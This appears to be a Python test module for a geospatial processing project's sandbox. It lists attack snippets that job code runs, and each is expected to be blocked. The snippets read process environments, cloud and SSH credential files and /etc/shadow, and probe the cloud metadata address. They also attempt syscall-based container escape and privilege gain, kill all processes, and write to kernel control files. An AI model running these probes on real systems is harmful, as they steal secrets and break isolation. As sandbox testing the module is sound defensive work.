"""Attacks that want to read, reach or change what lies outside."""

from geostudio_dagster_tests.processors.attacks.attack import Attack

PRYING = [
    Attack(
        "environment",
        """
        print(dict(os.environ))
        for pid in [1, os.getppid(), P["pid"], "self"]:
            print(pid, os.path.exists(f"/proc/{pid}/environ") and
                  (lambda path: open(path, "rb").read() if os.access(path, os.R_OK) else "no")(
                      f"/proc/{pid}/environ"))
        """,
    ),
    Attack(
        "first_process",
        """
        for name in ["environ", "maps", "mem", "cwd", "root/etc/passwd", "fd"]:
            path = f"/proc/1/{name}"
            attempt(name, lambda: os.listdir(path) if name == "fd" else open(path, "rb").read(1))
        """,
        may_get=("environ", "maps"),
    ),
    Attack(
        "other_processes",
        """
        others = [p for p in os.listdir("/proc") if p.isdigit()]
        print("processes", len(others))
        assert len(others) <= 3, others
        for pid in others:
            print(open(f"/proc/{pid}/cmdline").read())
        """,
        says=("processes",),
    ),
    Attack(
        "catalog",
        """
        for path in P["secrets"]:
            attempt(path, lambda: open(path, "rb").read())
            attempt(path, lambda: os.listdir(os.path.dirname(path)))
        """,
        says=("blocked",),
    ),
    Attack(
        "cloud_credentials",
        """
        homes = ["~", "/root", "/home", os.environ["HOME"], os.path.dirname(P["secrets"][0])]
        for home in homes:
            for name in [".aws/credentials", ".config/gcloud", ".ssh/id_rsa", ".netrc", ".pgpass"]:
                path = os.path.join(os.path.expanduser(home), name)
                attempt(path, lambda: open(path).read())
        """,
        says=("blocked",),
    ),
    Attack(
        "accounts",
        """
        for path in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/ssh",
                     "/var/run/secrets/kubernetes.io", "/run", "/sys", "/boot", "/root/.bashrc"]:
            attempt(path, lambda: open(path).read() if os.path.isfile(path) else os.listdir(path))
        """,
        says=("blocked",),
    ),
    Attack(
        "look_around",
        """
        skipped = ("/usr", "/proc", "/lib", "/bin", "/sbin", sys.prefix, sys.base_prefix)
        for folder, folders, files in os.walk("/"):
            folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(skipped)]
            print(folder, files[:50])
        """,
        says=("/job/output",),
    ),
    Attack(
        "metadata_address",
        """
        for address in ["169.254.169.254", "fd00:ec2::254"]:
            attempt(address, lambda: socket.create_connection((address, 80), timeout=1))
        """,
        says=("blocked",),
    ),
    Attack(
        "socket_out",
        """
        attempt("tcp", lambda: socket.create_connection(("127.0.0.1", P["port"]), timeout=1))
        attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + P["abstract"]))
        attempt("tcp6", lambda: socket.create_connection(("::1", P["port"]), timeout=1))
        datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("udp", lambda: datagram.sendto(b"secret", ("8.8.8.8", 53)))
        """,
        says=("blocked",),
    ),
    Attack(
        "name_lookup",
        """
        attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
        import urllib.request
        attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=1).read())
        """,
        says=("blocked",),
    ),
    Attack(
        "gdal_network",
        """
        import rasterio
        for name in [f"/vsicurl/http://127.0.0.1:{P['port']}/x.tif", "s3://bucket/x.tif",
                     *P["secrets"]]:
            attempt(name, lambda: rasterio.open(name))
        """,
        says=("blocked",),
    ),
    Attack(
        "socket_in",
        """
        server = socket.socket()
        server.bind(("0.0.0.0", P["free_port"]))
        server.listen()
        server.settimeout(1)
        attempt("accept", server.accept)
        """,
        says=("accept blocked",),
    ),
    Attack(
        "strange_sockets",
        """
        for family in [16, 17, 38, 40, 44, 29, 31]:  # netlink, packet, alg, vsock, xdp, can, bt
            attempt(f"family {family}", lambda: socket.socket(family, socket.SOCK_RAW))
            attempt(f"family {family}", lambda: socket.socket(family, socket.SOCK_STREAM))
        attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
        """,
        says=("blocked",),
    ),
    Attack(
        "kill_everyone",
        """
        for pid in [P["pid"], os.getppid(), 1]:
            attempt(f"kill {pid}", lambda: os.kill(pid, signal.SIGKILL))
        os.kill(-1, signal.SIGKILL)
        time.sleep(1)
        """,
        reasons=("ok", "signal", "failed"),
        may_get=("kill 1", "kill 2"),  # its own namespace's first process ignores it
    ),
    Attack(
        "trace",
        machine="x86_64",
        body="""
        attempt("ptrace", lambda: call(101, 16, os.getppid(), 0, 0))
        attempt("readv", lambda: call(310, os.getppid(), 0, 0, 0, 0, 0))
        attempt("userfaultfd", lambda: call(323, 0))
        attempt("perf", lambda: call(298, 0, 0, -1, -1, 0))
        attempt("bpf", lambda: call(321, 0, 0, 0))
        """,
        says=("blocked",),
    ),
    Attack(
        "namespaces",
        machine="x86_64",
        body="""
        attempt("user namespace", lambda: call(272, 0x10000000))
        attempt("clone", lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0))
        attempt("setns", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
        attempt("mount", lambda: call(165, b"tmpfs", b"/tmp", b"tmpfs", 0, None))
        attempt("umount", lambda: call(166, b"/job/input", 2))
        attempt("chroot", lambda: os.chroot("/tmp"))
        attempt("pivot_root", lambda: call(155, b"/tmp", b"/tmp"))
        attempt("unshare", lambda: subprocess.run(["unshare", "-Ur", "id"], check=True))
        attempt("open_tree", lambda: call(428, -100, b"/", 1))
        """,
        reasons=("ok", "failed"),
        says=("blocked",),
    ),
    Attack(
        "become_root",
        """
        print("uid", os.getuid(), os.geteuid())
        assert os.getuid() != 0
        for what in [lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0)]:
            attempt("root", what)
        state = open("/proc/self/status").read()
        for line in ["CapEff:\\t0000000000000000", "CapPrm:\\t0000000000000000", "NoNewPrivs:\\t1",
                     "Seccomp:\\t2"]:
            assert line in state, state
        print("without rights")
        """,
        says=("without rights",),
    ),
    Attack(
        "keys",
        machine="x86_64",
        body="""
        attempt("add_key", lambda: call(248, b"user", b"x", b"y", 1, -3))
        attempt("keyctl", lambda: call(250, 0, -3, 1))
        attempt("syslog", lambda: call(103, 3, 0, 0))
        attempt("io_uring", lambda: call(425, 8, ctypes.create_string_buffer(200)))
        """,
        says=("blocked",),
    ),
    Attack(
        "devices",
        """
        attempt("mknod", lambda: os.mknod(out("disk"), 0o60600, os.makedev(254, 0)))
        for name in ["/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse"]:
            attempt(name, lambda: open(name, "rb").read(1))
        """,
        says=("blocked",),
    ),
    Attack(
        "write_outside",
        """
        import numpy
        places = ["/evil", "/usr/evil", "/etc/evil", "/dev/evil", "/job/evil", "/job/input/evil",
                  "/job/script/evil.py", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
                  "/proc/sys/net/ipv4/ip_forward", "/proc/self/oom_score_adj",
                  os.path.join(sys.prefix, "evil"), os.path.join(numpy.__path__[0], "evil.py"),
                  *[os.path.join(os.path.dirname(p), "evil") for p in P["secrets"]], *P["secrets"]]
        for place in places:
            attempt(place, lambda: open(place, "w").write("evil"))
        attempt("up", lambda: open(out("../../../evil"), "w"))
        """,
        says=("blocked",),
    ),
    Attack(
        "change_input",
        """
        attempt("write", lambda: open(INPUT, "r+b").write(b"evil"))
        attempt("remove", lambda: os.remove(INPUT))
        attempt("mode", lambda: os.chmod(INPUT, 0o666))
        attempt("script", lambda: open(__file__, "a").write("evil"))
        attempt("rename", lambda: os.rename(INPUT, out("x.tif")))
        attempt("link", lambda: os.link(INPUT, out("x.tif")))
        """,
        says=("blocked",),
    ),
    Attack(
        "other_program",
        """
        attempt("sudo", lambda: subprocess.run(["sudo", "id"], check=True))
        script = "env; cat " + " ".join(P["secrets"]) + "; ls -la /root /home 2>&1; id; exit 3"
        os.execv("/bin/sh", ["sh", "-c", script])
        """,
        reasons=("failed",),
        says=("exit code 3",),
    ),
]
